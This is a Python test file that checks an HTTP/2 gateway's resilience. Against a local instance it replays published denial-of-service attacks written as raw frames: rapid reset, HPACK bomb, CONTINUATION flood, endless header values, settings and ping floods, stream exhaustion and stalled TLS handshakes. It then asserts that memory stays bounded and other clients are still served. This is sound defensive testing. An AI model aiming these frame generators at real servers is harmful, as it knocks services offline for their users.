#!/usr/bin/env python3
"""Published attacks on HTTP/2 servers, as raw bytes from loopback, against a gateway: its memory is bounded, and others are served.

Usage: attacks_test.py BUILD_DIR
"""

import os
import pathlib
import re
import select
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unittest

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "tests/ops"))
import support  # noqa: E402

BUILD = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else ROOT / "build/asan").resolve()
PATIENCE = 120  # seconds: sanitizers and busy machines
ATTACK_SECONDS = 2  # that each lasts, at most
ATTACKERS, CONNECTIONS = 4, 3  # of each attacker, one after the other
MAX_SENT = 1 << 20  # bytes on each connection: gRPC 1.51 takes seconds of a CPU for some of them,
MAX_SENT_AS_CALLS = 1 << 17  # and 80 times their memory for calls that are begun faster than it can end them
MAX_TRANSPORT = 128 << 20  # what the server is told that all connections may take
MAX_GROWTH = 256 << 20  # of its memory

# Sanitizers keep what was freed, and pad what was not.
SANITIZED = subprocess.run(["grep", "-qm1", "__asan_init", BUILD / "bin/quench-gateway"]).returncode == 0
if SANITIZED:
    MAX_GROWTH *= 4
    os.environ["ASAN_OPTIONS"] = "quarantine_size_mb=16"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first):
    """RFC 7541, 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 | 128]), value // 128
    return out + bytes([value])


def text(value):
    return integer(len(value), 7, 0) + value


def literal(name, value):
    """A header that stays out of the table."""
    return b"\0" + text(name) + text(value)


def request_headers(path=b"/grpc.health.v1.Health/Check"):
    return (literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", path) + literal(b":authority", b"localhost")
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


class Connection:
    """Raw HTTP/2."""

    def __init__(self, port, start=True):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.received, self.sent = b"", 0
        if start:
            self.socket.sendall(PREFACE + frame(SETTINGS))

    def close(self):
        self.socket.close()

    def next_frame(self):
        """(kind, flags, stream, payload); raises when the server has closed."""
        while len(self.received) < 9 or len(self.received) < 9 + int.from_bytes(self.received[:3], "big"):
            more = self.socket.recv(1 << 16)
            if not more:
                raise ConnectionError("closed by the server")
            self.received += more
        size = int.from_bytes(self.received[:3], "big")
        kind, flags = self.received[3], self.received[4]
        stream = int.from_bytes(self.received[5:9], "big") & 0x7FFFFFFF
        payload, self.received = self.received[9:9 + size], self.received[9 + size:]
        return kind, flags, stream, payload

    def send_all(self, chunks, most, seconds):
        """Sends until they, so many bytes or the time are over, or the server has had enough; what it says is thrown away."""
        end = time.monotonic() + seconds
        self.socket.setblocking(False)
        for chunk in chunks:
            while chunk:
                if time.monotonic() > end or self.sent > most:
                    return
                readable, writable, _ = select.select([self.socket], [self.socket], [], 0.25)
                if readable and not self.socket.recv(1 << 16):
                    return
                if writable:
                    sent = self.socket.send(chunk)
                    chunk, self.sent = chunk[sent:], self.sent + sent


class Neighbour:
    """Another client: asks for the server's health again and again."""

    def __init__(self, port):
        self.port, self.connection, self.stream = port, None, 1
        self.seconds = []

    def ask(self):
        start = time.monotonic()
        while time.monotonic() < start + PATIENCE:  # what is refused is asked again, on a new connection, as clients do
            try:
                self._ask()
                self.seconds.append(time.monotonic() - start)
                return
            except OSError:
                self.close()
                time.sleep(0.05)
        raise AssertionError(f"the server has not answered for {PATIENCE} s")

    def _ask(self):
        if self.connection is None:
            self.connection, self.stream = Connection(self.port), 1
        self.connection.socket.settimeout(PATIENCE)
        message = b"\0\0\0\0\0"  # an empty HealthCheckRequest: the whole server
        self.connection.socket.sendall(frame(HEADERS, END_HEADERS, self.stream, request_headers())
                                       + frame(DATA, END_STREAM, self.stream, message))
        answer = b""
        while True:
            kind, flags, stream, payload = self.connection.next_frame()
            if kind == SETTINGS and not flags & ACK:
                self.connection.socket.sendall(frame(SETTINGS, ACK))
            elif kind == PING and not flags & ACK:
                self.connection.socket.sendall(frame(PING, ACK, 0, payload))
            elif kind == RST_STREAM and stream == self.stream:
                raise ConnectionError("refused")
            elif stream == self.stream and kind == DATA:
                answer += payload
                self.connection.socket.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", max(len(payload), 1))))
            if stream == self.stream and kind in (HEADERS, DATA) and flags & END_STREAM:
                break
        self.stream += 2
        if answer[5:] != b"\x08\x01":  # SERVING
            raise ConnectionError("refused")

    def close(self):
        if self.connection is not None:
            self.connection.close()
        self.connection = None


class Gateway:
    def __init__(self, folder, server=""):
        self.folder = folder
        config = folder / "gateway.txtpb"
        config.write_text(f'state_dir: "{folder}/state" server {{ grace {{ seconds: 5 }} listen: "127.0.0.1:0" {server} }}\n')
        self.log = open(folder / "log", "w+b")
        self.process = subprocess.Popen([BUILD / "bin/quench-gateway", "--config", config], stdout=self.log, stderr=self.log)
        end = time.monotonic() + PATIENCE
        while not (found := re.search(rb"gateway serves on 127\.0\.0\.1:(\d+)", self.said())):
            if self.process.poll() is not None or time.monotonic() > end:
                raise AssertionError(f"the gateway does not start: {self.said().decode()}")
            time.sleep(0.02)
        self.port = int(found[1])

    def said(self):
        return (self.folder / "log").read_bytes()

    def memory(self):
        """Resident bytes: now, and at most so far."""
        status = pathlib.Path(f"/proc/{self.process.pid}/status").read_text()
        return tuple(int(re.search(rf"^{name}:\s+(\d+) kB", status, re.M)[1]) << 10 for name in ("VmRSS", "VmHWM"))

    def descriptors(self):
        return len(list(pathlib.Path(f"/proc/{self.process.pid}/fd").iterdir()))

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        try:
            code = self.process.wait(PATIENCE)
        finally:
            self.process.kill()
            self.log.close()
        return code


# Data that one connection of an attacker sends: pieces, for as long as it may.

def rapid_reset():
    """CVE-2023-44487: streams that are opened and given up at once."""
    for stream in range(1, 1 << 20, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, each, request_headers()) + frame(RST_STREAM, 0, each, struct.pack(">I", 8))
                       for each in range(stream, stream + 200, 2))


def reset_after_request():
    """The same with whole requests, which the server begins to work on."""
    for stream in range(1, 1 << 20, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, each, request_headers(b"/quench.gateway.v1.Workflows/ListWorkflows"))
                       + frame(DATA, END_STREAM, each, b"\0\0\0\0\0") + frame(RST_STREAM, 0, each, struct.pack(">I", 8))
                       for each in range(stream, stream + 200, 2))


def hpack_bomb():
    """CVE-2016-6581: one large header in the table, named by a byte each, a thousand times a request."""
    entry = b"\x40" + text(b"x-bomb") + text(b"b" * 3900)
    yield frame(HEADERS, END_HEADERS, 1, request_headers() + entry)
    for stream in range(3, 1 << 20, 2):
        yield frame(HEADERS, END_HEADERS, stream, request_headers() + b"\xbe" * 15000)


def large_headers():
    """Headers far above what is taken, in every request."""
    for stream in range(1, 1 << 20, 2):
        yield (frame(HEADERS, 0, stream, request_headers() + b"\0" + text(b"x-large") + integer(1 << 20, 7, 0))
               + b"".join(frame(CONTINUATION, 0, stream, b"l" * 16384) for _ in range(63)) + frame(CONTINUATION, END_HEADERS, stream, b"l" * 16384))


def continuation_flood():
    """CVE-2024-27316 and its sisters: a header block that never ends."""
    yield frame(HEADERS, 0, 1, request_headers())
    while True:
        yield b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % each, b"v" * 64)) for each in range(100))


def endless_string():
    """CVE-2023-33953: one header whose value goes on for 2 GiB, which a parser may keep until it is whole."""
    yield frame(HEADERS, 0, 1, request_headers() + b"\0" + text(b"x-endless") + integer(2 << 30, 7, 0))
    while True:
        yield frame(CONTINUATION, 0, 1, b"e" * 16384) * 8


def endless_integer():
    """CVE-2023-33953: a number in a header block with zeros in front, without an end."""
    yield frame(HEADERS, 0, 1, request_headers() + b"\0\x7f")
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x80" * 16384) * 8


def settings_flood():
    """CVE-2019-9515: settings that must be acknowledged, without an end."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500


def ping_flood():
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500


def many_streams():
    """Requests that never end, on as many streams as the server lets stand."""
    for stream in range(1, 20000, 2):
        yield frame(HEADERS, END_HEADERS, stream, request_headers(b"/google.bytestream.ByteStream/Write"))


def empty_frames():
    """CVE-2019-9518: data frames without data."""
    yield frame(HEADERS, END_HEADERS, 1, request_headers(b"/google.bytestream.ByteStream/Write"))
    while True:
        yield frame(DATA, 0, 1) * 500


class Attacks(unittest.TestCase):
    SHAPES = (rapid_reset, reset_after_request, hpack_bomb, large_headers, continuation_flood, endless_string, endless_integer, settings_flood, ping_flood, many_streams,
              empty_frames)

    CALLS = (rapid_reset, reset_after_request, many_streams)

    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="quench-"))
        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)

    def start(self, server=""):
        gateway = Gateway(self.folder, server)
        self.addCleanup(lambda: gateway.process.poll() is None and gateway.process.kill())
        return gateway

    def attack(self, gateway, shape, seconds):
        """ATTACKERS at once, each of whom comes back when it is cut off, beside a neighbour. Seconds of its calls, and bytes sent."""
        end = time.monotonic() + seconds
        sent = []

        def attacker():
            for _ in range(CONNECTIONS):
                left = end - time.monotonic()
                try:
                    connection = Connection(gateway.port)
                except OSError:
                    continue
                try:
                    connection.send_all(shape(), MAX_SENT_AS_CALLS if shape in self.CALLS else MAX_SENT, left)
                except OSError:
                    pass
                finally:
                    connection.close()
                    sent.append(connection.sent)

        threads = [threading.Thread(target=attacker) for _ in range(ATTACKERS)]
        for thread in threads:
            thread.start()
        neighbour = Neighbour(gateway.port)
        try:
            while time.monotonic() < end or not neighbour.seconds:
                neighbour.ask()
                time.sleep(0.02)
            for _ in range(5):  # and when they have gone
                neighbour.ask()
        finally:
            neighbour.close()
            for thread in threads:
                thread.join()
        return neighbour.seconds, sent

    def check(self, gateway, shape, seconds, before):
        times, sent = self.attack(gateway, shape, seconds)
        times.sort()
        self.assertIsNone(gateway.process.poll(), f"{shape.__name__} ended the gateway:\n{gateway.said().decode()[-2000:]}")
        now, most = gateway.memory()
        print(f"\n{shape.__name__}: p50 {times[len(times) // 2] * 1e3:.1f} ms, p99 {times[len(times) * 99 // 100] * 1e3:.1f} ms of {len(times)}"
              f" calls; {sum(sent) / (1 << 20):.1f} MiB over {len(sent)} connections; memory {now >> 20} MiB now, {most >> 20} MiB at most",
              end="", flush=True)
        self.assertLess(most - before, MAX_GROWTH, shape.__name__)
        self.assertGreater(sum(sent), 1000, "that was no attack")

    def test_memory_is_bounded_and_neighbours_are_served(self):
        for shape in self.SHAPES:
            with self.subTest(shape.__name__):
                shutil.rmtree(self.folder)
                self.folder.mkdir(0o700)
                gateway = self.start("limits { max_transport_bytes: %d }" % MAX_TRANSPORT)
                neighbour = Neighbour(gateway.port)
                for _ in range(20):
                    neighbour.ask()
                neighbour.close()
                before, descriptors = gateway.memory()[0], gateway.descriptors()
                self.check(gateway, shape, ATTACK_SECONDS, before)
                # The resources that they took are given back.
                end = time.monotonic() + PATIENCE
                while gateway.descriptors() > descriptors + 2 and time.monotonic() < end:
                    time.sleep(0.05)
                self.assertLessEqual(gateway.descriptors(), descriptors + 2)
                self.assertEqual(0, gateway.stop())

    def greets(self, gateway, context):
        """Whether the server shakes hands with a client that does so, too."""
        end = time.monotonic() + PATIENCE
        while time.monotonic() < end:
            try:
                with socket.create_connection(("127.0.0.1", gateway.port), timeout=PATIENCE) as plain:
                    with context.wrap_socket(plain) as other:
                        other.sendall(PREFACE + frame(SETTINGS))
                        return len(other.recv(9)) > 0
            except OSError:
                time.sleep(0.05)  # the machine was too busy for this one
        return False

    def test_handshakes_that_do_not_end_are_ended(self):
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "1", "-subj",
                        "/CN=localhost", "-keyout", self.folder / "key", "-out", self.folder / "certificate"], check=True, capture_output=True)
        gateway = self.start(f'tls {{ certificate_file: "{self.folder}/certificate" key_file: "{self.folder}/key" }} '
                             "limits { handshake_timeout { seconds: 5 } }")
        before, descriptors = gateway.memory()[0], gateway.descriptors()
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # of a record of 512 bytes
        half_open = []
        for index in range(400):
            connection = socket.create_connection(("127.0.0.1", gateway.port), timeout=PATIENCE)
            connection.sendall(hello[:index % len(hello)])
            half_open.append(connection)
        # Others come through meanwhile.
        context = ssl.create_default_context(cafile=self.folder / "certificate")
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        self.assertTrue(self.greets(gateway, context))
        # Nobody waits for the rest of their greeting for ever.
        for connection in half_open:
            try:
                while connection.recv(1 << 12):
                    pass
            except ConnectionError:
                pass
            connection.close()
        end = time.monotonic() + PATIENCE
        while gateway.descriptors() > descriptors + 2 and time.monotonic() < end:
            time.sleep(0.05)
        self.assertLessEqual(gateway.descriptors(), descriptors + 2)
        self.assertLess(gateway.memory()[1] - before, MAX_GROWTH)
        self.assertEqual(0, gateway.stop())


if __name__ == "__main__":
    support.main("attacks")
